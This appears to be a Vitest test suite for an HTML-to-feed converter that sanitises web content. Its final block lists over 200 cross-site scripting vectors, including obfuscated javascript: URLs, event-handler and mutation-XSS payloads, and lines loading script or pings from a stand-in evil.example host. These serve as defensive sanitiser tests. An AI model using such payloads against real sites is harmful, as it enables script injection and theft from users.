import createDOMPurify from "dompurify";
import { JSDOM } from "jsdom";
import { describe, expect, test } from "vitest";
import { toFeedHtml } from "../../src/feed/to-feed-html.ts";

const url = "https://example.com/posts/q/";

function convert(html: string): string {
  return toFeedHtml(html, { url });
}

describe("addresses", () => {
  test.each([
    ['<a href="/faq">F</a>', '<a href="https://example.com/faq">F</a>'],
    ['<a href="">F</a>', '<a href="https://example.com/posts/q/">F</a>'],
    [
      '<p id="f">x</p><a href="#f">F</a>',
      '<p id="posts-q-f">x</p><a href="https://example.com/posts/q/#f">F</a>',
    ],
    ['<a href="mailto:a@b.c">F</a>', '<a href="mailto:a@b.c">F</a>'],
    ['<a href="ftp://x/">F</a>', "F"],
    ["<a name=x>F</a>", "F"],
    ['<img src="a b.png" alt="A">', '<img alt="A" src="https://example.com/posts/q/a%20b.png">'],
    ['<img src="" alt="A & B">', "A &#x26; B"],
    ['<img src="data:image/gif;base64,R0" data-src="/lazy.png">', '<img src="https://example.com/lazy.png">'],
    [
      '<img srcset="w_1,h_2/a.png 1x, data:image/png;base64,x,y 2x, //c.example/b,c.png 3x" src=a.png>',
      '<img srcset="https://example.com/posts/q/w_1,h_2/a.png 1x, https://c.example/b,c.png 3x" src="https://example.com/posts/q/a.png">',
    ],
    [
      '<video poster="p.png" src="v.mp4"><track src="t.vtt" kind=captions></video>',
      '<video poster="https://example.com/posts/q/p.png" src="https://example.com/posts/q/v.mp4" controls><track kind="captions" src="https://example.com/posts/q/t.vtt"></video>',
    ],
    [
      '<picture><source srcset="a.avif" type="image/avif"><img src="a.png"></picture>',
      '<picture><source type="image/avif" srcset="https://example.com/posts/q/a.avif"><img src="https://example.com/posts/q/a.png"></picture>',
    ],
    [
      '<blockquote cite="/c"><q cite="d">x</q></blockquote>',
      '<blockquote cite="https://example.com/c"><q cite="https://example.com/posts/q/d">x</q></blockquote>',
    ],
  ])("%s", (html, expected) => {
    expect(convert(html)).toBe(expected);
  });
});

describe("what belongs to the page is gone", () => {
  test.each([
    [
      "scripts and styles",
      "<script>x()</script><style>p{}</style><link rel=stylesheet href=x><p style='color:red' class=y>A</p>",
      "<p>A</p>",
    ],
    [
      "forms",
      "<p>A</p><form action=/s><label>Mail <input name=m></label><button>Send</button></form>",
      "<p>A</p>",
    ],
    [
      "copy buttons",
      "<button class=copy>Copy</button><p>A</p><div class='copy-button'>Copy</div>",
      "<p>A</p>",
    ],
    [
      "texts for screen readers alone",
      '<h2 class="sr-only" id=footnote-label>Footnotes</h2><p>A<span class=visually-hidden>, in a new tab</span></p>',
      "<p>A</p>",
    ],
    [
      "hidden elements",
      "<i style='position:absolute; width:1px;height:1px'>x</i><div hidden>x</div><p style='display:none'>y</p><p>A</p>",
      "<p>A</p>",
    ],
    ["comments", "<!-- x --><p>A<!-- y --></p>", "<p>A</p>"],
    [
      "a heading's anchor in front",
      '<h2 id=a><a href="#a" aria-hidden=true><svg><path/></svg></a>A</h2>',
      "<h2>A</h2>",
    ],
    [
      "a heading's anchor behind",
      '<h2 id=a>A <a class="header-anchor" href="#a">Link to this heading</a></h2>',
      "<h2>A </h2>",
    ],
    [
      "a heading's anchor beside",
      '<div class="markdown-heading"><h2>A</h2><a class="anchor" href="#a"><svg></svg></a></div>',
      "<div><h2>A</h2></div>",
    ],
    [
      "an anchor around a heading's text",
      '<h2 id=a><a class="anchor" href="#a">About <b>A</b></a></h2>',
      "<h2>About <b>A</b></h2>",
    ],
    [
      "pictures made of code",
      "<svg><title>x</title><script>y</script></svg><canvas>z</canvas><p>A</p>",
      "<p>A</p>",
    ],
  ])("%s", (_name, html, expected) => {
    expect(convert(html)).toBe(expected);
  });

  test("but a link in a heading, and a footnote's mark, stay", () => {
    expect(convert('<h2>See <a href="/x">this</a><sup><a href="#fn1">1</a></sup></h2><p id=fn1>N</p>')).toBe(
      '<h2>See <a href="https://example.com/x">this</a><sup><a href="https://example.com/posts/q/#fn1">1</a></sup></h2>' +
        '<p id="posts-q-fn1">N</p>',
    );
  });
});

describe("what a reader cannot show is replaced", () => {
  test.each([
    [
      "a frame by its address",
      '<iframe src="https://v.example/1?a&b" title="A <talk>"></iframe>',
      '<a href="https://v.example/1?a&#x26;b">A &#x3C;talk&#x3E;</a>',
    ],
    [
      "a frame in a link by its name",
      '<a href="/x"><iframe src="/v" title="T"></iframe></a>',
      '<a href="https://example.com/x">T</a>',
    ],
    ["a frame of nothing", '<iframe srcdoc="<script>x</script>"></iframe>A', "A"],
    [
      "an object",
      '<object data="/d.pdf"><p>no</p></object>',
      '<a href="https://example.com/d.pdf">https://example.com/d.pdf</a>',
    ],
    [
      "a task's box",
      "<ul><li><input type=checkbox checked disabled> A<li><input type=checkbox> B</ul>",
      "<ul><li>☑ A</li><li>☐ B</li></ul>",
    ],
    [
      "old names",
      "<center><tt>a</tt> <strike>b</strike> <acronym title=x>c</acronym></center>",
      '<section><code>a</code> <s>b</s> <abbr title="x">c</abbr></section>',
    ],
    ["unknown elements", "<x-note><p>A</p></x-note><font color=red>B</font>", "<p>A</p>B"],
    [
      "KaTeX by its source",
      '<span class="katex"><span class="katex-mathml"><math><semantics><mrow><mi>a</mi></mrow><annotation encoding="application/x-tex">a&lt;b^2</annotation></semantics></math></span><span class="katex-html" aria-hidden="true">a&lt;b2</span></span>',
      "<code>a&#x3C;b^2</code>",
    ],
    [
      "MathML by its text",
      '<math alttext="x^2"><mi>x</mi></math> <math><mi>y</mi><mo>+</mo><mn>1</mn></math>',
      "<code>x^2</code> <code>y+1</code>",
    ],
    [
      "a noscript by what is in it",
      '<noscript><img src="a.png"></noscript>',
      '<img src="https://example.com/posts/q/a.png">',
    ],
  ])("%s", (_name, html, expected) => {
    expect(convert(html)).toBe(expected);
  });
});

describe("coloured code becomes plain code", () => {
  const plain = '<pre><code class="language-js">let a = "&#x3C;";\nlet b;\n</code></pre>';
  test.each([
    [
      "shiki",
      '<pre class="shiki github-light" style="x" tabindex="0"><code class="language-js"><span class="line"><span style="--s:#1">let</span> a = "&lt;";</span>\n<span class="line highlighted">let b;</span>\n</code></pre>',
      plain,
    ],
    [
      "shiki in a figure with a title",
      '<figure data-language="js"><figcaption>a.js</figcaption><pre class="shiki"><code><span class="line">let a = "&lt;";</span>\n<span class="line">let b;</span>\n</code></pre><button>Copy</button></figure>',
      `<figure><figcaption>a.js</figcaption>${plain}</figure>`,
    ],
    [
      "Prism",
      '<pre class="language-js"><code><span class="token keyword">let</span> a = "&lt;";\nlet b;\n<span aria-hidden="true" class="line-numbers-rows"><span></span></span></code></pre>',
      plain,
    ],
    [
      "prism-react-renderer",
      '<div class="language-js"><pre class="prism-code"><code><div class="token-line">let a = "&lt;";</div><div class="token-line">let b;</div></code></pre></div>',
      `<div>${plain}</div>`,
    ],
    [
      "highlight.js",
      '<pre><code class="hljs language-js"><span class="hljs-keyword">let</span> a = "&lt;";\nlet b;\n</code></pre>',
      plain,
    ],
    [
      "Rouge",
      '<div class="language-js highlighter-rouge"><div class="highlight"><pre class="highlight"><code><table class="rouge-table"><tbody><tr><td class="rouge-gutter gl"><pre class="lineno">1\n2\n</pre></td><td class="rouge-code"><pre>let a = "&lt;";\nlet b;\n</pre></td></tr></tbody></table></code></pre></div></div>',
      undefined,
    ],
    [
      "Chroma",
      '<div class="highlight"><table class="lntable"><tr><td class="lntd"><pre class="chroma"><code><span class="lnt">1\n</span><span class="lnt">2\n</span></code></pre></td><td class="lntd"><pre class="chroma"><code class="language-js" data-lang="js">let a = "&lt;";\nlet b;\n</code></pre></td></tr></table></div>',
      `<div>${plain}</div>`,
    ],
    [
      "Hexo",
      '<figure class="highlight js"><table><tr><td class="gutter"><pre><span class="line">1</span><br><span class="line">2</span><br></pre></td><td class="code"><pre><span class="line">let a = "&lt;";</span><br><span class="line">let b;</span><br></pre></td></tr></table></figure>',
      `<figure>${plain}</figure>`,
    ],
    [
      "Pandoc",
      '<div class="sourceCode"><pre class="sourceCode js"><code class="sourceCode language-js"><span id="cb1-1">let a = "&lt;";</span>\n<span>let b;</span>\n</code></pre></div>',
      `<div>${plain}</div>`,
    ],
  ])("%s", (_name, html, expected = plain) => {
    const text = convert(html);
    if (_name === "Rouge") expect(text.replace(/<\/?div>/g, "")).toBe(plain);
    else expect(text).toBe(expected);
  });

  test.each([
    ["<pre><pre class=katex>a</pre></pre>", "<pre><code>a</code></pre>"],
    ["<pre>a <b><pre>b</pre><pre class=x>c</pre></b></pre>", "<pre><code>a bc</code></pre>"],
  ])("a block of code around another is one: %s", (html, expected) => {
    expect(convert(html)).toBe(expected);
    expect(convert(expected)).toBe(expected);
  });

  test("a poem stays one", () => {
    expect(convert("<pre>\n\nRoses <b>are</b> red</pre>")).toBe("<pre>\n\nRoses <b>are</b> red</pre>");
  });

  test("a table with numbers is no code", () => {
    expect(convert("<table><tr><td>1</td><td>One</td></tr></table>")).toBe(
      "<table><tbody><tr><td>1</td><td>One</td></tr></tbody></table>",
    );
  });
});

describe("text", () => {
  test("what no feed can carry is gone", () => {
    expect(convert("a\u0000\u0008b\u009F\uFFFE\uD800c<p title='\u0001x\uFFFF'>d</p>")).toBe(
      'abc<p title="x">d</p>',
    );
  });

  test("tools that look for tags with a pattern find none in attributes", () => {
    expect(convert("<img src=a.png alt='<a href=\"x\"> src=y z'>")).toBe(
      '<img alt="&#x3C;a href&#x3D;&#x22;x&#x22;&#x3E; src&#x3D;y z" src="https://example.com/posts/q/a.png">',
    );
  });

  test("is the same when it is converted again", () => {
    const html = `<h2 id=a>A</h2><p>Ã© &amp;amp; <a href="x#y">z</a></p><pre><code class="language-c">\n#a</code></pre><iframe src=/v></iframe>`;
    const once = convert(html);
    expect(convert(once)).toBe(once);
  });

  test("an address that is none", () => {
    expect(() => toFeedHtml("x", { url: "/posts" })).toThrow(
      'Expected url to be an absolute http or https URL, received "/posts"',
    );
  });
});

describe("deep and long HTML ends soon", () => {
  test.each([
    ["div", "<div>".repeat(5000)],
    ["b", "<b>".repeat(2000)],
    ["tables", "<table><tr><td>".repeat(1000)],
    ["lists", "<ul><li>".repeat(3000)],
    ["links", "<a href=#x>".repeat(5000)],
    ["spans in code", `<pre><code>${"<span>".repeat(3000)}x`],
    ["srcset", `<img src=a srcset="${", ,".repeat(20_000)}a (">`],
    ["comments", "<!--".repeat(20_000)],
  ])("%s", (_name, html) => {
    expect(convert(`${html}end`).length).toBeLessThan(html.length * 3 + 1000);
  });
});

describe("hostile HTML", () => {
  const { window } = new JSDOM("");
  const purify = createDOMPurify(window);
  const parse = (html: string): HTMLElement =>
    new window.DOMParser().parseFromString(`<body>${html}`, "text/html").body;
  const removals = (html: string): string[] => {
    const before = parse(html).innerHTML;
    const after = parse(purify.sanitize(html)).innerHTML;
    return before === after ? [] : [before, after];
  };
  const schemes = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\u0001javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#x09;script:alert(1)",
    "java&Tab;script&colon;alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://example.com/1",
    "filesystem:https://example.com/1",
    "view-source:javascript:alert(1)",
    "jar:javascript:alert(1)!/",
    "feed:javascript:alert(1)",
    "x-javascript:alert(1)",
    "livescript:alert(1)",
  ];
  const carriers = [
    (value: string) => `<a href="${value}">x</a>`,
    (value: string) => `<img src="${value}" alt="x">`,
    (value: string) => `<img srcset="${value} 1x" src="${value}">`,
    (value: string) => `<video poster="${value}" src="${value}"><source src="${value}"></video>`,
    (value: string) => `<iframe src="${value}"></iframe>`,
    (value: string) => `<object data="${value}"></object><embed src="${value}">`,
    (value: string) => `<form action="${value}"><button formaction="${value}">x</button></form>`,
    (value: string) => `<svg><a xlink:href="${value}"><text>x</text></a><image href="${value}"/></svg>`,
    (value: string) => `<math href="${value}"><maction actiontype="statusline#${value}">x</maction></math>`,
    (value: string) => `<blockquote cite="${value}">x</blockquote><q cite="${value}">y</q>`,
    (value: string) =>
      `<base href="${value}"><link rel=import href="${value}"><meta http-equiv=refresh content="0;${value}">`,
  ];
  const vectors = [
    ...schemes.flatMap((scheme) => carriers.map((carry) => carry(scheme))),
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr = alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<body onload=alert(1)><svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<table background='javascript:alert(1)'><tr><td background='javascript:alert(1)'>x</table>",
    "<div style='background:url(javascript:alert(1));behavior:url(x);-moz-binding:url(x)'>x</div>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select><style><img src=x onerror=alert(1)></style></select>",
    "<input autofocus onfocus=alert(1)><input type=image src=x onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<a id=cookie name=cookie href=#cookie>x</a><img name=getElementById src=x><form id=forms><input name=attributes></form>",
    "<p id=__proto__>x</p><a href=#__proto__>y</a><p id=constructor>z</p>",
    "<a href='https://example.com' target=_blank ping=//evil.example>x</a>",
    "<pre><code class='language-js\" onclick=alert(1) x=\"'>x</code></pre>",
    "<pre data-language='x\" onclick=\"alert(1)'><code>x</code></pre>",
    "<span class=katex><annotation encoding=tex><img src=x onerror=alert(1)>&lt;img src=x onerror=alert(1)></annotation></span>",
    "<iframe src=//v.example title='&lt;img src=x onerror=alert(1)>'></iframe>",
    "<img alt='\"><script>alert(1)</script>' src=x title='`onerror=alert(1)`'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?><?import x?>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<ruby><rtc><style><img src=x onerror=alert(1)></style></rtc></ruby>",
    "<a href='//evil.example\\@example.com'>x</a><a href='https:/\\evil.example'>y</a>",
    "<p lang='javascript:alert(1)' dir='data:text/html,x'>x</p>",
    "<ol start='java&#9;script:1' type='vbscript:x'><li>x</li></ol>",
    "<del datetime='&nbsp;javascript:1'>x</del>",
    "<img src='&ZeroWidthSpace;javascript:1'><img srcset='java script:1 1x'><a href='java script:1'>x</a>",
  ];

  test.each(vectors)("%s", (vector) => {
    const html = convert(vector);
    expect(removals(html)).toEqual([]);
    for (const element of parse(html).querySelectorAll("*")) {
      expect("script style iframe object embed form input svg math base link meta".split(" ")).not.toContain(
        element.localName,
      );
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|style|srcdoc|ping|target/);
        if (["href", "src", "poster", "cite"].includes(name))
          expect(value).toMatch(/^(https?:\/\/|mailto:|tel:)/);
      }
    }
  });

  test("there are enough of them", () => {
    expect(vectors.length).toBeGreaterThan(200);
  });
});
